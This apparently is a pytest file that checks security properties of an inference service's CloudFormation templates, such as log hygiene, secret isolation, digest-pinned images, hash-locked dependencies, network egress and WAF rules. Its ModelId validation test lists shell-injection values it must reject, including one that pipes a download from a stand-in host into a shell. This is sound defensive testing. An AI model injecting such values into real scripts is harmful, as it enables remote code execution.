"""The deployed half of issue 40 read from the templates: what a security reviewer checks before the first tenant.

Prompts stay out of the engine's logs and the engine listens on loopback (the real server is started with these
arguments in tests/integration/vllm/test_prompts_stay_out_of_logs.py); tenants have bounds by default; the
gateway's concurrency is reserved and unauthenticated calls are refused before it runs; the engine container
cannot reach the cache token; alarms reach their topic; images are pinned; the scaler can change the count and
nothing else; plaintext Redis is refused; logs are encrypted; the VPC's traffic is logged.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from inferq.config.settings import Settings

from .cfn import Resolver, as_list, role_statements
from .test_template import ATTRIBUTES, _all_templates, environment, function, role_of, worker_container

DIGEST = "sha256:" + "ab" * 32


def vllm_container(gpu: dict[str, Any]) -> dict[str, Any]:
    containers = gpu["Resources"]["TaskDefinition"]["Properties"]["ContainerDefinitions"]
    return next(c for c in containers if c["Name"] == "vllm")


def flag(command: list[Any], name: str) -> Any:
    return command[command.index(name) + 1]


# --- 1: prompts never reach logs; vLLM on loopback ---


def test_vllm_logs_no_request_no_output_and_listens_on_loopback(nested: dict[str, dict[str, Any]]) -> None:
    command = vllm_container(nested["gpu"])["Command"]
    assert flag(command, "--host") == "127.0.0.1"
    assert "--no-enable-log-requests" in command and "--no-enable-log-outputs" in command
    assert "--enable-log-requests" not in command and "--enable-log-outputs" not in command
    assert flag(command, "--max-log-len") == "0"
    env = {e["Name"]: e["Value"] for e in Resolver(nested["gpu"], overrides={"RedisUrl": "r"}).value(
        worker_container(nested["gpu"])["Environment"])}
    assert env["INFERQ_OPENAI_BASE_URL"] == "http://127.0.0.1:8000"


def test_compose_runs_vllm_with_the_same_logging_flags(nested: dict[str, dict[str, Any]]) -> None:
    import yaml

    from .cfn import ROOT

    vllm = yaml.safe_load((ROOT / "emulator" / "compose.yaml").read_text())["services"]["vllm"]
    command = vllm["command"]
    task = vllm_container(nested["gpu"])["Command"]
    for name in ("--no-enable-log-requests", "--no-enable-log-outputs"):
        assert name in command and name in task
    assert flag(command, "--max-log-len") == flag(task, "--max-log-len") == "0"
    assert "ports" not in vllm  # reachable by the worker container only
    assert vllm["image"].endswith(":v0.32.0}")


# --- 3: tenant bounds in the deployed config ---


def test_tenant_bounds_are_stack_parameters_with_non_zero_defaults_given_to_the_gateway(
    translated: dict[str, Any],
) -> None:
    env = environment(translated, "GatewayFunction")
    resolved = Resolver(translated, attributes=ATTRIBUTES).value(env)
    settings = Settings.from_env(resolved)
    for parameter, variable, field in (
        ("TenantMaxDepth", "INFERQ_TENANT_MAX_DEPTH", "tenant_max_depth"),
        ("TenantMaxFiles", "INFERQ_TENANT_MAX_FILES", "tenant_max_files"),
        ("TenantMaxBatches", "INFERQ_TENANT_MAX_BATCHES", "tenant_max_batches"),
    ):
        assert env[variable] == {"Ref": parameter}
        declared = translated["Parameters"][parameter]
        assert declared["Default"] > 0 and declared["MinValue"] >= 1, parameter  # 0 would mean unlimited
        assert getattr(settings, field) == declared["Default"]
    assert settings.tenant_max_depth <= translated["Parameters"]["MaxQueueDepth"]["Default"]


# --- 5: the edge ---


def test_gateway_concurrency_is_reserved_by_a_parameter(translated: dict[str, Any]) -> None:
    props = function(translated, "GatewayFunction")
    assert Resolver(translated).value(props["ReservedConcurrentExecutions"]) == "50"
    unreserved = Resolver(translated, overrides={"GatewayReservedConcurrency": "0"})
    assert unreserved.value({"x": props["ReservedConcurrentExecutions"]}) == {}


# --- 6: the engine container never sees the cache token ---


def test_only_the_worker_container_gets_the_cache_credentials(nested: dict[str, dict[str, Any]]) -> None:
    gpu = nested["gpu"]
    arn = "arn:aws:secretsmanager:us-east-1:123456789012:secret:worker-AbCdEf"
    resolver = Resolver(gpu, overrides={"RedisUrl": "r", "RedisAuthSecretArn": arn,
                                        "VllmImage": f"vllm/vllm-openai@{DIGEST}"})
    worker = resolver.value(worker_container(gpu))
    assert {"Name": "INFERQ_REDIS_AUTH", "ValueFrom": arn} in worker["Secrets"]
    vllm = resolver.value(vllm_container(gpu))
    assert "Secrets" not in vllm  # no Hugging Face token given: nothing at all
    # the task role (whose credentials the worker uses) may read no secret; ECS's execution role reads the cache's
    # at start, the instances the Hugging Face token at boot
    for owner, statement in role_statements(gpu):
        if "secretsmanager:GetSecretValue" in as_list(statement["Action"]):
            assert owner in ("TaskExecutionRole", "InstanceRole"), owner
            assert owner != "InstanceRole" or statement["Resource"] == {"Ref": "HuggingFaceTokenSecretArn"}


# --- 7: alarms that arrive ---


def test_the_alarm_topic_is_encrypted_with_a_key_cloudwatch_may_use(nested: dict[str, dict[str, Any]]) -> None:
    resources = nested["observability"]["Resources"]
    assert resources["AlarmTopic"]["Properties"]["KmsMasterKeyId"] == {"Ref": "AlarmKey"}
    key = resources["AlarmKey"]["Properties"]
    assert key["EnableKeyRotation"] is True
    statements = key["KeyPolicy"]["Statement"]
    cloudwatch = [s for s in statements if s["Principal"].get("Service") == "cloudwatch.amazonaws.com"]
    assert len(cloudwatch) == 1 and cloudwatch[0]["Effect"] == "Allow"
    assert {"kms:Decrypt", "kms:GenerateDataKey*"} <= set(cloudwatch[0]["Action"])
    publish = resources["AlarmTopicPolicy"]["Properties"]["PolicyDocument"]["Statement"][0]
    assert publish["Principal"] == {"Service": "cloudwatch.amazonaws.com"} and publish["Action"] == "sns:Publish"
    alarms = [r for r in resources.values() if r["Type"] == "AWS::CloudWatch::Alarm"]
    assert alarms and all(r["Properties"]["AlarmActions"] == [{"Ref": "AlarmTopic"}] for r in alarms)


# --- 8: a pinned supply chain ---


def test_images_are_pinned_by_digest_and_repository_tags_are_immutable(
    translated: dict[str, Any], nested: dict[str, dict[str, Any]]
) -> None:
    pattern = translated["Parameters"]["VllmImage"]["AllowedPattern"]
    assert "Default" not in translated["Parameters"]["VllmImage"]  # the operator pins a checked release
    assert re.fullmatch(pattern, f"vllm/vllm-openai@{DIGEST}")
    assert not re.fullmatch(pattern, "vllm/vllm-openai:v0.32.0")
    worker_pattern = translated["Parameters"]["WorkerImage"]["AllowedPattern"]
    assert re.fullmatch(worker_pattern, "") and re.fullmatch(worker_pattern, f"1.dkr.ecr/inferq@{DIGEST}")
    assert not re.fullmatch(worker_pattern, "1.dkr.ecr/inferq:latest")
    gpu = nested["gpu"]
    assert gpu["Resources"]["WorkerRepository"]["Properties"]["ImageTagMutability"] == "IMMUTABLE"
    image = worker_container(gpu)["Image"]
    pinned = Resolver(gpu, overrides={"RedisUrl": "r", "WorkerImageDigest": DIGEST}).value(image)
    assert pinned == f"WorkerRepository.RepositoryUri@{DIGEST}"
    assert Resolver(gpu, overrides={"RedisUrl": "r"}).value(image) == "WorkerRepository.RepositoryUri:bootstrap"
    parameters = translated["Resources"]["Gpu"]["Properties"]["Parameters"]
    assert parameters["WorkerImageDigest"] == {"Ref": "WorkerImageDigest"}
    assert parameters["VllmImage"] == {"Ref": "VllmImage"}


# --- 9: smaller findings ---


def test_the_scaler_may_set_the_count_of_its_service_and_nothing_else(translated: dict[str, Any]) -> None:
    role = role_of(translated, "ScalerFunction")
    updates = [s for owner, s in role_statements(translated)
               if owner == role and "ecs:UpdateService" in as_list(s["Action"])]
    assert len(updates) == 1 and as_list(updates[0]["Action"]) == ["ecs:UpdateService"]
    condition = updates[0]["Condition"]
    assert condition["ArnEquals"] == {"ecs:cluster": {"Fn::GetAtt": ["Gpu", "Outputs.ClusterArn"]}}
    assert condition["ArnEqualsIfExists"] == {
        "ecs:task-definition": {"Fn::GetAtt": ["Gpu", "Outputs.TaskDefinitionArn"]}
    }
    assert condition["BoolIfExists"] == {"ecs:enable-execute-command": "false"}


@pytest.mark.parametrize(("url", "accepted"), [
    ("", True), ("rediss://cache.example:6379/0", True), ("rediss://c:6379?cluster=true", True),
    ("redis://cache.example:6379/0", False), ("rediss://user:token@cache:6379/0", False),
])
def test_an_existing_cache_must_be_reached_over_tls(translated: dict[str, Any], url: str, accepted: bool) -> None:
    pattern = translated["Parameters"]["ExistingRedisUrl"]["AllowedPattern"]
    assert bool(re.fullmatch(pattern, url)) is accepted


def test_every_log_group_is_encrypted_with_the_stacks_key(
    translated: dict[str, Any], nested: dict[str, dict[str, Any]]
) -> None:
    groups = 0
    for name, template in _all_templates(translated, nested).items():
        for logical_id, resource in template["Resources"].items():
            if resource["Type"] == "AWS::Logs::LogGroup":
                groups += 1
                key = resource["Properties"]["KmsKeyId"]
                assert key in ({"Fn::GetAtt": ["LogsKey", "Arn"]}, {"Ref": "LogsKmsKeyArn"}), (name, logical_id)
    assert groups >= 5
    for stack in ("Gpu", "Network"):
        assert translated["Resources"][stack]["Properties"]["Parameters"]["LogsKmsKeyArn"] == {
            "Fn::GetAtt": ["LogsKey", "Arn"]}
    key = translated["Resources"]["LogsKey"]["Properties"]
    logs = next(s for s in key["KeyPolicy"]["Statement"] if "Service" in s["Principal"])
    assert logs["Principal"]["Service"] == {"Fn::Sub": "logs.${AWS::Region}.${AWS::URLSuffix}"}
    assert "kms:EncryptionContext:aws:logs:arn" in logs["Condition"]["ArnLike"]


def test_the_vpc_in_use_has_flow_logs(nested: dict[str, dict[str, Any]]) -> None:
    network = nested["network"]
    flow = network["Resources"]["FlowLog"]["Properties"]
    assert (flow["ResourceType"], flow["TrafficType"]) == ("VPC", "ALL")
    assert Resolver(network).value(flow["ResourceId"]) == "Vpc"
    assert Resolver(network, overrides={"ExistingVpcId": "vpc-0123"}).value(flow["ResourceId"]) == "vpc-0123"
    assert flow["LogGroupName"] == {"Ref": "FlowLogGroup"}
    writes = [s["Resource"] for owner, s in role_statements(network) if owner == "FlowLogRole"]
    assert writes == [{"Fn::GetAtt": ["FlowLogGroup", "Arn"]}]


LOCKS = {
    "gateway": ("functions/gateway/requirements.txt", "functions/gateway/requirements.lock"),
    "scaler": ("functions/scaler/requirements.txt", "functions/scaler/requirements.lock"),
    "authorizer": ("functions/authorizer/requirements.txt", "functions/authorizer/requirements.lock"),
    "worker": ("pyproject.toml", "gpu_worker/requirements.lock"),
    "gateway container": ("functions/gateway/container-requirements.txt", "functions/gateway/container.lock"),
}
"""owner -> (what it requires, its lock)."""


def requirements(path: Any) -> list[str]:
    """A requirements file's requirements, with those of the files it includes (``-r``)."""
    wanted = []
    for line in path.read_text().splitlines():
        line = line.split("#")[0].strip()
        if line.startswith("-r "):
            wanted += requirements(path.parent / line[3:].strip())
        elif line:
            wanted.append(line)
    return wanted


def locked(path: Any) -> dict[str, tuple[str, list[str]]]:
    """name -> (version, hashes) of a lock file written by ``make lock``."""
    text = re.sub(r"\\\n\s*", " ", path.read_text())
    found = {}
    for line in text.splitlines():
        match = re.match(r"^([A-Za-z0-9_.-]+)==(\S+)", line)
        if match:
            name = re.sub(r"[-_.]+", "-", match.group(1)).lower()
            found[name] = (match.group(2), re.findall(r"--hash=sha256:([0-9a-f]{64})", line))
    return found


@pytest.mark.parametrize("owner", LOCKS)
def test_every_locked_package_is_pinned_with_hashes_and_satisfies_the_requirements(owner: str) -> None:
    from packaging.requirements import Requirement

    from .cfn import ROOT

    required, lock_file = LOCKS[owner]
    lock = locked(ROOT / lock_file)
    assert lock and all(hashes for _, hashes in lock.values()), owner
    if owner == "worker":
        import tomllib

        project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
        extras = project["optional-dependencies"]
        wanted = [*project["dependencies"], *extras["worker"]]
        for line in list(wanted):  # the extras an extra names (inferq[queue]): theirs too, not inferq itself
            if Requirement(line).name == "inferq":
                wanted.remove(line)
                wanted += [dep for extra in sorted(Requirement(line).extras) for dep in extras[extra]]
    else:
        wanted = requirements(ROOT / required)
    for spec in map(Requirement, wanted):
        name = re.sub(r"[-_.]+", "-", spec.name).lower()
        assert name in lock, (owner, name)
        assert spec.specifier.contains(lock[name][0], prereleases=True), (owner, spec, lock[name][0])


def test_builds_install_from_the_locks_and_check_the_hashes() -> None:
    from .cfn import ROOT

    make = (ROOT / "mk" / "sam.mk").read_text()
    assert "--require-hashes --no-deps -r functions/$(1)/requirements.lock" in make
    dockerfile = re.sub(r"\s+", " ", (ROOT / "gpu_worker" / "Dockerfile").read_text().replace("\\\n", " "))
    assert "--require-hashes --no-deps -r gpu_worker/requirements.lock" in dockerfile
    assert "--require-hashes --no-deps -r functions/gateway/container.lock" in dockerfile


def test_the_gateway_runs_the_same_packages_in_its_container_as_in_lambda() -> None:
    from .cfn import ROOT

    function = locked(ROOT / "functions/gateway/requirements.lock")
    container = locked(ROOT / "functions/gateway/container.lock")
    assert {name: version for name, (version, _) in container.items() if name in function} == {
        name: version for name, (version, _) in function.items()}
    # what the python3.13 runtime gives the function, and the server, are all the container adds
    assert {"boto3", "botocore", "uvicorn"} <= set(container) - set(function)


# --- issue 47, M2: the engine reaches neither credentials nor the internet ---

CREDENTIAL_VARIABLES = ("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                        "AWS_CONTAINER_AUTHORIZATION_TOKEN", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
                        "ECS_CONTAINER_METADATA_URI", "ECS_CONTAINER_METADATA_URI_V4", "ECS_AGENT_URI")
"""What ECS puts into every container of a task: the task role's credentials endpoint and its token, the metadata
and agent endpoints."""


def _engine(gpu: dict[str, Any]) -> dict[str, Any]:
    resolver = Resolver(gpu, overrides={"RedisUrl": "r", "VllmImage": f"vllm/vllm-openai@{DIGEST}",
                                        "HuggingFaceTokenSecretArn": "arn:aws:secretsmanager:us-east-1:"
                                                                     "123456789012:secret:hf-AbCdEf"})
    return dict(resolver.value(vllm_container(gpu)))


def test_the_engine_starts_without_the_credentials_address_ecs_gives_every_container(
    nested: dict[str, dict[str, Any]]
) -> None:
    """ECS injects AWS_CONTAINER_CREDENTIALS_RELATIVE_URI into every container of a task (awsvpc: one network
    namespace for all). vLLM's entry point drops it and its kin before vllm starts, so no process of the container
    knows the credentials' address; the worker's processes are in another pid namespace (no pidMode)."""
    gpu = nested["gpu"]
    engine = _engine(gpu)
    entry = engine["EntryPoint"]
    assert entry[0] == "/usr/bin/env" and entry[-1] == "vllm" and engine["Command"][0] == "serve"
    dropped = [entry[i + 1] for i, arg in enumerate(entry[:-1]) if arg == "-u"]
    assert set(dropped) == set(CREDENTIAL_VARIABLES)
    assert "PidMode" not in gpu["Resources"]["TaskDefinition"]["Properties"]
    # no secret (the Hugging Face token is read by the instance at boot), no capability, the weights offline and
    # the model cache read-only (an engine cannot leave files for the next task on the instance)
    assert "Secrets" not in engine
    assert {e["Name"]: e["Value"] for e in engine["Environment"]}["HF_HUB_OFFLINE"] == "1"
    assert engine["LinuxParameters"]["Capabilities"] == {"Drop": ["ALL"]}
    assert [m.get("ReadOnly") for m in engine["MountPoints"]] == [True]
    user_data = json.dumps(gpu["Resources"]["LaunchTemplate"]["Properties"])
    assert "ECS_AWSVPC_BLOCK_IMDS=true" in user_data  # the instance role's credentials: unreachable from tasks


def test_the_entry_point_really_starts_its_program_without_those_variables(nested: dict[str, dict[str, Any]]) -> None:
    """The entry point as ECS runs it (the template's list, exec'd), the program a Python that prints what it
    got, with every variable set as ECS sets them: none reaches it, and /proc/self/environ agrees."""
    import os
    import subprocess
    import sys

    entry = _engine(nested["gpu"])["EntryPoint"]
    probe = "import os; print(sorted(os.environ)); print(open('/proc/self/environ', 'rb').read())"
    env = {**os.environ, **{name: f"/v2/credentials/{name.lower()}" for name in CREDENTIAL_VARIABLES}}
    out = subprocess.run([*entry[:-1], sys.executable, "-c", probe], env=env, capture_output=True, text=True,
                         check=True).stdout
    for name in CREDENTIAL_VARIABLES:
        assert name not in out
    assert "PATH" in out  # the rest of the environment is there


def test_the_tasks_have_no_route_to_the_internet(nested: dict[str, dict[str, Any]]) -> None:
    """The service puts the task's interface (the engine's and the worker's network) in subnets whose route table
    holds no default route: the VPC (the cache, the endpoints) and S3's gateway endpoint, nothing else, whatever
    NetworkEgress is. The instances stay where the images and weights come from."""
    network, gpu = nested["network"], nested["gpu"]
    resources = network["Resources"]
    routes = [r["Properties"] for r in resources.values() if r["Type"] == "AWS::EC2::Route"]
    assert routes and all(r["RouteTableId"] != {"Ref": "TaskRouteTable"} for r in routes)
    tasks = {r["Properties"]["SubnetId"]["Ref"] for r in resources.values()
             if r["Type"] == "AWS::EC2::SubnetRouteTableAssociation"
             and r["Properties"]["RouteTableId"] == {"Ref": "TaskRouteTable"}}
    assert tasks == {"TaskSubnetA", "TaskSubnetB"}
    # S3 through an endpoint of the tasks' own, which reaches this account's buckets only (no anonymous write to
    # someone else's); the instances' endpoint stays open (ECR's layers and the OS packages are AWS's buckets)
    endpoint = resources["TaskS3Endpoint"]["Properties"]
    assert endpoint["RouteTableIds"] == [{"Ref": "TaskRouteTable"}] and endpoint["VpcEndpointType"] == "Gateway"
    assert resources["S3Endpoint"]["Properties"]["RouteTableIds"] == [{"Ref": "PrivateRouteTable"}]
    (statement,) = endpoint["PolicyDocument"]["Statement"]
    assert statement["Effect"] == "Allow" and statement["Condition"] == {
        "StringEquals": {"aws:ResourceAccount": {"Ref": "AWS::AccountId"}}}
    for egress in ("nat", "endpoints", "nat-and-endpoints"):
        assert Resolver(network, overrides={"Egress": egress}).value(
            network["Outputs"]["TaskSubnetIds"]["Value"]) == "TaskSubnetA,TaskSubnetB"
    # an existing VPC: its subnets without a route out when given, else (documented) its private subnets
    existing = {"ExistingVpcId": "vpc-1", "ExistingPrivateSubnetIds": "subnet-p1,subnet-p2"}
    for tasks_given, expected in (("subnet-t1,subnet-t2", "subnet-t1,subnet-t2"), ("", "subnet-p1,subnet-p2")):
        resolver = Resolver(network, overrides={**existing, "ExistingTaskSubnetIds": tasks_given})
        assert resolver.value(network["Outputs"]["TaskSubnetIds"]["Value"]) == expected
    for name in ("Service", "FallbackService"):
        subnets = gpu["Resources"][name]["Properties"]["NetworkConfiguration"]["AwsvpcConfiguration"]["Subnets"]
        assert subnets == {"Ref": "TaskSubnetIds"}, name
    # the worker no longer needs the internet: the scaler delivers the webhooks
    resolved = Resolver(gpu, overrides={"RedisUrl": "r"}).value(worker_container(gpu)["Environment"])
    assert {e["Name"]: e["Value"] for e in resolved}["INFERQ_WORKER_WEBHOOKS"] == "false"


def test_the_hugging_face_token_is_read_by_the_instance_and_the_model_id_is_a_plain_id(
    translated: dict[str, Any], nested: dict[str, dict[str, Any]]
) -> None:
    """L5: ModelId reaches a root shell script: a pattern that admits a repository id and nothing a shell reads,
    and single quotes around it in the script."""
    gpu = nested["gpu"]
    for template in (translated, gpu):
        pattern = template["Parameters"]["ModelId"]["AllowedPattern"]
        for good in ("Qwen/Qwen2.5-1.5B-Instruct", "meta-llama/Llama-3.1-8B-Instruct", "gpt2"):
            assert re.fullmatch(pattern, good), good
        for bad in ("m; curl evil | sh", "m$(id)", "m'x", "a/b/c", "m `id`", "", "-rf"):
            assert not re.fullmatch(pattern, bad), bad
    script = gpu["Resources"]["LaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]["Fn::Sub"]
    assert "'${ModelId}'" in script and "${ModelId}" not in script.replace("'${ModelId}'", "")
    assert "secretsmanager get-secret-value" in script and "'${HuggingFaceTokenSecretArn}'" in script
    instance = [s for owner, s in role_statements(Resolver(gpu, overrides={
        "RedisUrl": "r", "HuggingFaceTokenSecretArn": "arn:aws:secretsmanager:us-east-1:1:secret:hf"}).value(
        {"Resources": {"InstanceRole": gpu["Resources"]["InstanceRole"]}})) if owner == "InstanceRole"]
    assert {"Effect": "Allow", "Action": "secretsmanager:GetSecretValue",
            "Resource": "arn:aws:secretsmanager:us-east-1:1:secret:hf"} in instance


def test_the_worker_base_image_is_pinned_by_digest() -> None:
    """L5: the worker image's base, like every image the stack runs, by digest (compose's default too)."""
    from .cfn import ROOT

    dockerfile = (ROOT / "gpu_worker" / "Dockerfile").read_text()
    base = re.search(r"^ARG PYTHON_IMAGE=(\S+)$", dockerfile, re.MULTILINE)
    assert base and re.fullmatch(r"[a-z0-9./:-]+@sha256:[0-9a-f]{64}", base.group(1)), base
    compose = (ROOT / "emulator" / "compose.yaml").read_text()
    assert compose.count(f"${{PYTHON_IMAGE:-{base.group(1)}}}") == 2


# --- issue 47, M4: an optional edge (CloudFront and AWS WAF) in front of the HTTP API ---

EDGE = ("EdgeWebAcl", "EdgeDistribution", "EdgeOriginSecret")
CACHING_DISABLED = "4135ea2d-6df8-44a3-9df3-4b5a84be39ad"  # AWS's managed cache policy CachingDisabled
ALL_VIEWER_EXCEPT_HOST = "b689b0a8-53d0-40ab-baf2-68738e2966ac"  # its origin request policy for API Gateway


def test_the_edge_is_off_by_default_and_a_stack_condition(translated: dict[str, Any]) -> None:
    resources = translated["Resources"]
    assert translated["Parameters"]["EdgeProtection"]["Default"] == "off"
    off, waf = Resolver(translated), Resolver(translated, overrides={"EdgeProtection": "waf"})
    for name in EDGE:
        condition = resources[name]["Condition"]
        assert not off.condition(condition) and waf.condition(condition), name
    assert not off.condition(translated["Outputs"]["EdgeUrl"]["Condition"])
    # a web ACL of the account's own, made in us-east-1, is used instead of the stack's
    given = Resolver(translated, overrides={"EdgeProtection": "waf", "EdgeWebAclArn": "arn:aws:wafv2:us-east-1:"
                                            "123456789012:global/webacl/mine/0a1b"})
    assert given.condition(resources["EdgeDistribution"]["Condition"])
    assert not given.condition(resources["EdgeWebAcl"]["Condition"])
    distribution = given.value(resources["EdgeDistribution"]["Properties"]["DistributionConfig"])
    assert distribution["WebACLId"].endswith("webacl/mine/0a1b")
    # elsewhere than us-east-1 the stack cannot make a CLOUDFRONT web ACL: the stack refuses waf without one
    rule = translated["Rules"]["EdgeWebAclOutsideUsEast1"]
    assert Resolver(translated, overrides={"EdgeProtection": "waf", "AWS::Region": "eu-west-1"}).value(
        rule["RuleCondition"])
    assert not waf.value(rule["RuleCondition"])  # us-east-1
    assert not Resolver(translated, overrides={"EdgeProtection": "waf", "AWS::Region": "eu-west-1"}).value(
        rule["Assertions"][0]["Assert"])


def test_the_web_acl_limits_each_address_and_blocks_no_prompt_for_what_it_quotes(translated: dict[str, Any]) -> None:
    """The rate per source address first (429), then AWS's managed groups; their body rules only count: a body is a
    tenant's prompt, which may quote markup, SQL or a metadata address."""
    acl = Resolver(translated, overrides={"EdgeProtection": "waf"}).value(translated["Resources"]["EdgeWebAcl"])
    properties = acl["Properties"]
    assert properties["Scope"] == "CLOUDFRONT" and properties["DefaultAction"] == {"Allow": {}}
    rules = sorted(properties["Rules"], key=lambda r: r["Priority"])
    rate = rules[0]
    assert rate["Statement"]["RateBasedStatement"] == {"Limit": "20000", "AggregateKeyType": "IP"}
    assert rate["Action"]["Block"]["CustomResponse"]["ResponseCode"] == 429
    groups = [r["Statement"]["ManagedRuleGroupStatement"] for r in rules[1:]]
    assert [(g["VendorName"], g["Name"]) for g in groups] == [
        ("AWS", "AWSManagedRulesAmazonIpReputationList"), ("AWS", "AWSManagedRulesCommonRuleSet"),
        ("AWS", "AWSManagedRulesKnownBadInputsRuleSet")]
    assert all(r["OverrideAction"] == {"None": {}} for r in rules[1:])  # the groups' own actions: they block
    counted = {o["Name"] for g in groups for o in g.get("RuleActionOverrides", [])
               if o["ActionToUse"] == {"Count": {}}}
    # every rule of these groups that inspects the body (AWS's names end in _BODY) counts instead of blocking
    assert counted == {"SizeRestrictions_BODY", "CrossSiteScripting_BODY", "GenericLFI_BODY", "GenericRFI_BODY",
                       "EC2MetaDataSSRF_BODY", "Log4JRCE_BODY", "JavaDeserializationRCE_BODY"}
    assert all(r["VisibilityConfig"]["CloudWatchMetricsEnabled"] for r in rules)
    bounds = translated["Parameters"]["EdgeRateLimit"]
    # WAF's floor; and a tenant at its own rate limit from one address is not cut at the edge (5 minutes of it)
    tenant_rate = int(translated["Parameters"]["TenantRateLimit"]["Default"])
    assert bounds["MinValue"] >= 10 and int(bounds["Default"]) >= tenant_rate * 300


def test_the_distribution_caches_nothing_and_forwards_the_key_to_the_api_over_tls(translated: dict[str, Any]) -> None:
    resolver = Resolver(translated, overrides={"EdgeProtection": "waf"})
    config = resolver.value(translated["Resources"]["EdgeDistribution"]["Properties"]["DistributionConfig"])
    assert config["WebACLId"] == "EdgeWebAcl.Arn"
    (origin,) = config["Origins"]
    assert origin["DomainName"] == "HttpApi.execute-api.us-east-1.amazonaws.com"
    custom = origin["CustomOriginConfig"]
    assert custom["OriginProtocolPolicy"] == "https-only" and custom["OriginSSLProtocols"] == ["TLSv1.2"]
    assert custom["OriginReadTimeout"] <= 30  # the HTTP API's own integration limit
    behavior = config["DefaultCacheBehavior"]
    assert behavior["ViewerProtocolPolicy"] == "https-only" and behavior["TargetOriginId"] == origin["Id"]
    assert (behavior["CachePolicyId"], behavior["OriginRequestPolicyId"]) == (CACHING_DISABLED, ALL_VIEWER_EXCEPT_HOST)
    assert set(behavior["AllowedMethods"]) == {"GET", "HEAD", "OPTIONS", "PUT", "PATCH", "POST", "DELETE"}
    assert "CacheBehaviors" not in config  # one behaviour: nothing is cached anywhere
    output = resolver.value(translated["Outputs"]["EdgeUrl"]["Value"])
    assert output == "https://EdgeDistribution.DomainName/"


def test_the_edge_sends_a_generated_secret_the_authorizer_requires_so_the_api_answers_no_direct_caller(
    translated: dict[str, Any]
) -> None:
    """The execute-api address stays reachable (CloudFront's origin): with the edge, CloudFront adds a header whose
    value the stack generates in Secrets Manager (read through a dynamic reference, in no template or parameter),
    and the authorizer, told the secret's id, refuses a request without it; no answer is cached, so none is reused
    for a request without it. Without the edge: no secret, no check, no grant."""
    from functions.authorizer.edge import HEADER

    resources = translated["Resources"]
    off, waf = Resolver(translated), Resolver(translated, overrides={"EdgeProtection": "waf"})
    secret = waf.value(resources["EdgeOriginSecret"]["Properties"])
    generated = secret["GenerateSecretString"]
    assert "SecretString" not in secret and generated["GenerateStringKey"] == "current"
    assert generated["PasswordLength"] >= 32 and json.loads(generated["SecretStringTemplate"]) == {}
    config = waf.value(resources["EdgeDistribution"]["Properties"]["DistributionConfig"])
    (origin,) = config["Origins"]
    (header,) = origin["OriginCustomHeaders"]
    assert header["HeaderName"].lower() == HEADER
    assert header["HeaderValue"] == "{{resolve:secretsmanager:EdgeOriginSecret:SecretString:current}}"
    # a new rotation number changes the distribution: CloudFormation reads the secret again then
    rotated = Resolver(translated, overrides={"EdgeProtection": "waf", "EdgeOriginSecretRotation": "7"})
    assert rotated.value(resources["EdgeDistribution"]["Properties"]["DistributionConfig"])["Comment"] != config[
        "Comment"]

    def authorizer(resolver: Resolver) -> tuple[str, list[Any]]:
        env = resolver.value(environment(translated, "AuthorizerFunction"))
        role = role_of(translated, "AuthorizerFunction")
        statements = [resolver.value(s) for owner, s in role_statements(translated) if owner == role]
        return env["INFERQ_EDGE_ORIGIN_SECRET"], statements

    name, statements = authorizer(waf)
    assert name == "EdgeOriginSecret"
    assert Settings.from_env({"INFERQ_API_KEYS": "t:key-0000000001", "INFERQ_EDGE_ORIGIN_SECRET": name}
                             ).edge_origin_secret == name
    assert [(s["Action"], sorted(as_list(s["Resource"]))) for s in statements] == [
        ("secretsmanager:GetSecretValue", ["ApiKeysSecret", "EdgeOriginSecret"])]
    name, statements = authorizer(off)
    assert name == "" and [as_list(s["Resource"]) for s in statements] == [["ApiKeysSecret"]]
    # every request runs the authorizer: API Gateway caches no answer (no identity source, no TTL)
    scheme = translated["Resources"]["HttpApi"]["Properties"]["Body"]["components"]["securitySchemes"]
    authorizer_config = scheme["ApiKeyAuthorizer"]["x-amazon-apigateway-authorizer"]
    assert authorizer_config["identitySource"] == [] and not authorizer_config.get("authorizerResultTtlInSeconds")
    output = waf.value(translated["Outputs"]["EdgeOriginSecretArn"])
    assert output["Value"] == "EdgeOriginSecret" and not off.condition(output["Condition"])


# --- issue 47, M2: DNS egress (an optional Route 53 Resolver DNS Firewall on the stack's VPC) ---

REGION = "us-east-1"
ENDPOINTS = {
    # each AWS service a role of the stack is granted, with the names its calls resolve (AWS's endpoint names)
    "s3": ["s3.us-east-1.amazonaws.com", "inferq-files-123.s3.us-east-1.amazonaws.com", "s3.amazonaws.com",
           "inferq-files-123.s3.amazonaws.com", "prod-us-east-1-starport-layer-bucket.s3.us-east-1.amazonaws.com"],
    "ecr": ["api.ecr.us-east-1.amazonaws.com", "123456789012.dkr.ecr.us-east-1.amazonaws.com"],
    "ecs": ["ecs.us-east-1.amazonaws.com", "ecs-a-1.us-east-1.amazonaws.com", "ecs-t-1.us-east-1.amazonaws.com"],
    "logs": ["logs.us-east-1.amazonaws.com"],
    "cloudwatch": ["monitoring.us-east-1.amazonaws.com"],
    "secretsmanager": ["secretsmanager.us-east-1.amazonaws.com"],
    "kms": ["kms.us-east-1.amazonaws.com"],
    "lambda": ["lambda.us-east-1.amazonaws.com"],
    "sts": ["sts.us-east-1.amazonaws.com", "sts.amazonaws.com"],
    "ec2": ["ec2.us-east-1.amazonaws.com"],
    "autoscaling": ["autoscaling.us-east-1.amazonaws.com"],
    "xray": ["xray.us-east-1.amazonaws.com"],
    "sns": ["sns.us-east-1.amazonaws.com"],
}
MANAGED_SERVICES = {"logs", "ec2", "xray", "ecs", "ecr"}
"""What the AWS managed policies the roles carry grant (test_template.py's MANAGED_POLICIES)."""
BEYOND_IAM = [
    "inferq-x1y2z3.serverless.use1.cache.amazonaws.com",  # the cache (ElastiCache Serverless, node-based alike)
    "master.inferq.abc123.use1.cache.amazonaws.com",
    "clustercfg.inferq.abc123.memorydb.us-east-1.amazonaws.com",
    "vpce-0a1b2c3d-4e5f.secretsmanager.us-east-1.vpce.amazonaws.com",  # an interface endpoint's own name
    "ip-10-42-0-5.ec2.internal", "ip-10-42-0-5.us-west-2.compute.internal",  # an instance's own name
]


def firewall_allows(domains: list[str], name: str) -> bool:
    """DNS Firewall's matching: an exact name, ``*.zone`` for any name under the zone, ``*`` for every name."""
